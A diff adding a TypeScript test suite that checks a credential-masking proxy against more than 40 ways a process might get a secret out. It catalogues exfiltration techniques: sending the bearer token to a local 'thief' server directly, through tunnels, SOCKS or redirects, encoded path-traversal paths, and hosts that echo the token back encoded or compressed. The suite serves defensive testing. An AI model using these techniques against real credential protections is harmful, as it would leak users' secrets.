@@ -1,0 +1,330 @@
+import { once } from "node:events";
+import type { RequestListener } from "node:http";
+import { createServer } from "node:http";
+import { connect as connectTls } from "node:tls";
+import {
+  brotliCompressSync,
+  brotliDecompressSync,
+  deflateSync,
+  gunzipSync,
+  gzipSync,
+  inflateSync,
+} from "node:zlib";
+import { describe, expect, it } from "vitest";
+import {
+  createMaskedScene,
+  createSecureUpstream,
+  providerFor,
+  request,
+  SECRET,
+} from "../../../../test/fixtures/inspection-scene.ts";
+import {
+  closeProxiesAfterEach,
+  cleanups,
+  collect,
+  dial,
+  exchange,
+  get,
+  listen,
+  socksRequest,
+} from "../../../../test/fixtures/proxy-scene.ts";
+
+closeProxiesAfterEach();
+
+/** What is taken away to show that an attempt would succeed without it. */
+type Protection = "masking" | "destinations" | "paths" | "restoring";
+
+/** Ways to get a secret out. Each returns everything that its author could see: answers, and what a thief was sent. */
+interface Attempt {
+  readonly name: string;
+  readonly stoppedBy: Protection;
+  /** The secret's own host, which may be careless, but is no thief. */
+  readonly host?: RequestListener;
+  run(scene: Scene): Promise<string | readonly string[]>;
+}
+
+type Scene = Awaited<ReturnType<typeof openScene>>;
+
+async function openScene(attempt: Attempt, without: Protection | undefined) {
+  const stolen: string[] = [];
+  const thief: RequestListener = (incoming, response) => {
+    stolen.push([incoming.url, ...incoming.rawHeaders].join(" "));
+    response.end("thanks");
+  };
+  const inClear = await listen(createServer(thief));
+  let secure = 0;
+  const scene = await createMaskedScene({
+    ...(attempt.host === undefined ? {} : { answer: attempt.host }),
+    provider: (port) =>
+      providerFor([
+        `https://localhost:${port}${without === "paths" ? "" : "/v1"}`,
+        ...(without === "destinations"
+          ? [`http://127.0.0.1:${inClear}`, `https://localhost:${secure}`, `http://localhost:${inClear}`]
+          : []),
+      ]),
+    before: async (foreign) => {
+      secure = (await createSecureUpstream(foreign, thief)).port;
+    },
+    extra: { COPY: SECRET, URL: `https://me:${SECRET}@a.test/` },
+  });
+  if (without === "restoring") Object.defineProperty(scene.secrets, "restoring", { value: [] });
+  const env = new Map(scene.env);
+  if (without === "masking")
+    for (const [name, value] of env) env.set(name, value.replaceAll(scene.standIn, SECRET));
+  const standIn = env.get("A_KEY") ?? "";
+  return { ...scene, env, standIn, bearer: `Authorization: Bearer ${standIn}`, stolen, inClear, secure };
+}
+
+/** A host that answers with what it was sent, in some form. */
+const repeats =
+  (
+    form: (sent: string) => string | Buffer,
+    headers: Record<string, string> = {},
+    status = 200,
+  ): RequestListener =>
+  (incoming, response) => {
+    response.writeHead(status, headers);
+    response.end(form(incoming.headers.authorization ?? ""));
+  };
+const as = (encoding: BufferEncoding) => (sent: string) => Buffer.from(sent).toString(encoding);
+const same = (sent: string) => sent;
+
+const fromEnvironment = (name: string): Attempt => ({
+  name: `reads ${name}`,
+  stoppedBy: "masking",
+  run: async ({ env }) => env.get(name) ?? "",
+});
+
+const byPath = (path: string): Attempt => ({
+  name: `asks for ${path}, where others may write`,
+  stoppedBy: "paths",
+  host: (incoming, response) =>
+    response.end(as("base64url")(`x${incoming.headers.authorization}`).slice(0, 1)),
+  run: async ({ ask, bearer, upstream }) => {
+    const seen: string[] = [];
+    upstream.http.on("request", (incoming) => seen.push(incoming.headers.authorization ?? ""));
+    await ask(path, [bearer]);
+    return seen;
+  },
+});
+
+const byAnswer = (name: string, host: RequestListener, headers: readonly string[] = []): Attempt => ({
+  name: `has the host repeat it ${name}`,
+  stoppedBy: "restoring",
+  host,
+  run: ({ ask, bearer }) => ask("/v1", [bearer, ...headers]),
+});
+
+const attempts: readonly Attempt[] = [
+  ...["A_KEY", "COPY", "URL", "CODEX_NETWORK_PROXY_BROKERED_CREDENTIALS"].map(fromEnvironment),
+  {
+    name: "sends it in clear",
+    stoppedBy: "destinations",
+    run: ({ http, inClear, bearer }) => exchange(http, get(`http://localhost:${inClear}/`, [bearer])),
+  },
+  {
+    name: "sends it to an address",
+    stoppedBy: "destinations",
+    run: ({ http, inClear, bearer }) => exchange(http, get(`http://127.0.0.1:${inClear}/`, [bearer])),
+  },
+  {
+    name: "sends it to another port",
+    stoppedBy: "destinations",
+    run: async ({ tunnel, secure, bearer }) => {
+      const socket = await tunnel("localhost", secure);
+      socket.write(request(`localhost:${secure}`, "/", [bearer]));
+      return collect(socket);
+    },
+  },
+  {
+    name: "sends it through SOCKS",
+    stoppedBy: "destinations",
+    run: async ({ socks, secure, bearer, own, foreign }) => {
+      const raw = dial(socks);
+      const hello = socksRequest("localhost", secure);
+      raw.write(hello.subarray(0, 3));
+      await once(raw, "data");
+      raw.write(hello.subarray(3));
+      await once(raw, "data");
+      const ca = [own.certificate, foreign.certificate];
+      const socket = connectTls({ socket: raw, servername: "localhost", ca });
+      cleanups.unshift(() => socket.destroy());
+      await once(socket, "secureConnect");
+      socket.write(request(`localhost:${secure}`, "/", [bearer]));
+      return collect(socket);
+    },
+  },
+  {
+    name: "follows a redirect with it",
+    stoppedBy: "destinations",
+    host: (incoming, response) => {
+      response.writeHead(302, { location: String(incoming.headers["x-thief"]) });
+      response.end();
+    },
+    run: async ({ ask, http, inClear, bearer }) => {
+      const answer = await ask("/v1", [bearer, `X-Thief: http://localhost:${inClear}/caught`]);
+      const [, location = ""] = /location: (\S+)/i.exec(answer) ?? [];
+      return exchange(http, get(location, [bearer]));
+    },
+  },
+  {
+    name: "upgrades the connection to a thief",
+    stoppedBy: "destinations",
+    run: ({ http, inClear, bearer }) =>
+      exchange(
+        http,
+        get(`http://localhost:${inClear}/`, [bearer]).replace(
+          "Connection: close",
+          "Connection: Upgrade\r\nUpgrade: x",
+        ),
+      ),
+  },
+  ...["/", "/v2", "/v10", "/V1", "/v1/../x", "/v1/..", "/v1/./../x", "/v1/%2e%2e/x", "/v1/.%2E/x"].map(
+    byPath,
+  ),
+  ...["/v1//x", "/v1/..%2fx", "/v1/%5c..%5cx", "/v1/..\\x", "/x/v1", "/?/v1"].map(byPath),
+  byAnswer("as it is", repeats(same)),
+  byAnswer("in an error page", repeats(same, {}, 500)),
+  byAnswer("in a message about a wrong address", repeats(same, {}, 404)),
+  byAnswer("in base64", repeats(as("base64"))),
+  byAnswer("in base64 for URLs", repeats(as("base64url"))),
+  byAnswer(
+    "in base64, moved by one byte",
+    repeats((sent) => as("base64")(` ${sent}`)),
+  ),
+  byAnswer(
+    "in base64, moved by two bytes",
+    repeats((sent) => as("base64")(`  ${sent}`)),
+  ),
+  byAnswer("in hexadecimal digits", repeats(as("hex"))),
+  byAnswer(
+    "in large hexadecimal digits",
+    repeats((sent) => as("hex")(sent).toUpperCase()),
+  ),
+  byAnswer(
+    "with gzip",
+    repeats((sent) => gzipSync(sent), { "content-encoding": "gzip" }),
+  ),
+  byAnswer(
+    "with deflate",
+    repeats((sent) => deflateSync(sent), { "content-encoding": "deflate" }),
+  ),
+  byAnswer(
+    "with brotli",
+    repeats((sent) => brotliCompressSync(sent), { "content-encoding": "BR" }),
+  ),
+  byAnswer("with its length", (incoming, response) => {
+    const sent = incoming.headers.authorization ?? "";
+    response.writeHead(200, { "content-length": sent.length });
+    response.end(sent);
+  }),
+  byAnswer("in a header", (incoming, response) => {
+    response.writeHead(200, { "x-sent": incoming.headers.authorization ?? "" });
+    response.end();
+  }),
+  byAnswer("in the name of a header", (incoming, response) => {
+    response.writeHead(200, { [(incoming.headers.authorization ?? "").slice("Bearer ".length)]: "1" });
+    response.end();
+  }),
+  byAnswer("in a cookie", (incoming, response) => {
+    response.writeHead(200, { "set-cookie": [`a=b`, `k=${incoming.headers.authorization}`] });
+    response.end();
+  }),
+  byAnswer("in a redirect", (incoming, response) => {
+    response.writeHead(302, { location: `/?${incoming.headers.authorization}` });
+    response.end();
+  }),
+  byAnswer("in two pieces", (incoming, response) => {
+    const sent = incoming.headers.authorization ?? "";
+    response.write(sent.slice(0, 15));
+    setImmediate(() => response.end(sent.slice(15)));
+  }),
+  byAnswer(
+    "after the beginning of another one",
+    repeats((sent) => `k-abc${sent}${sent.slice(7)}`),
+  ),
+  {
+    name: "has the host repeat what an earlier request sent",
+    stoppedBy: "restoring",
+    host: (() => {
+      let last = "";
+      return (incoming, response) => {
+        response.end(last);
+        last = incoming.headers.authorization ?? last;
+      };
+    })(),
+    run: async ({ ask, bearer }) => [await ask("/v1", [bearer]), await ask("/elsewhere")],
+  },
+  {
+    name: "has the host repeat the secret among pipelined requests",
+    stoppedBy: "restoring",
+    host: repeats(same),
+    run: async ({ tunnel, upstream, bearer }) => {
+      const host = `localhost:${upstream.port}`;
+      const socket = await tunnel();
+      const open = `GET /v1 HTTP/1.1\r\nHost: ${host}\r\n${bearer}\r\n\r\n`;
+      socket.write(open + open + request(host, "/v1", [bearer]));
+      return collect(socket);
+    },
+  },
+  {
+    name: "has the host repeat it in a WebSocket",
+    stoppedBy: "restoring",
+    run: async ({ tunnel, upstream, bearer }) => {
+      upstream.http.on("upgrade", (incoming, socket) => {
+        socket.write("HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: x\r\n\r\n");
+        socket.end(incoming.headers.authorization);
+      });
+      const socket = await tunnel();
+      const text = request(`localhost:${upstream.port}`, "/v1", [bearer]);
+      socket.write(text.replace("Connection: close", "Connection: Upgrade\r\nUpgrade: x"));
+      return collect(socket);
+    },
+  },
+];
+
+/** A compressed body as it was; empty if it is none. */
+function unpacked(answer: string): string {
+  const end = answer.indexOf("\r\n\r\n") + 4;
+  const whole = answer.slice(end);
+  const body = Buffer.from(/^[0-9a-f]+\r\n([^]*)\r\n0\r\n\r\n$/.exec(whole)?.[1] ?? whole, "latin1");
+  return [gunzipSync, inflateSync, brotliDecompressSync]
+    .map((decompress) => {
+      try {
+        return decompress(body).toString();
+      } catch {
+        return "";
+      }
+    })
+    .join("");
+}
+
+/** Whether somebody could reconstruct the secret from a text. */
+function gives(text: string): boolean {
+  const core = SECRET.slice(3, -3);
+  const folded = text.replaceAll(/\r\n[0-9a-f]+\r\n/g, "");
+  const decoded = [0, 1, 2, 3].flatMap((skipped) =>
+    (folded.match(/[\w+/-]{12,}/g) ?? []).flatMap((word) =>
+      (["base64", "hex"] as const).map((form) => Buffer.from(word.slice(skipped), form).toString("latin1")),
+    ),
+  );
+  return [folded, ...decoded].some((each) => each.includes(core));
+}
+
+describe("a process that wants to get a secret out", () => {
+  it.each(attempts)("$name: not possible because of $stoppedBy", async (attempt) => {
+    for (const without of [undefined, attempt.stoppedBy]) {
+      const scene = await openScene(attempt, without);
+      const seen = [await attempt.run(scene), scene.stolen, JSON.stringify(scene.decisions)].flat();
+      expect([without, gives([...seen, ...seen.map(unpacked)].join("\n"))]).toEqual([
+        without,
+        without !== undefined,
+      ]);
+    }
+  });
+
+  it("has many ways to try", () => {
+    expect(attempts.length).toBeGreaterThan(40);
+    expect(new Set(attempts.map(({ name }) => name)).size).toBe(attempts.length);
+  });
+});
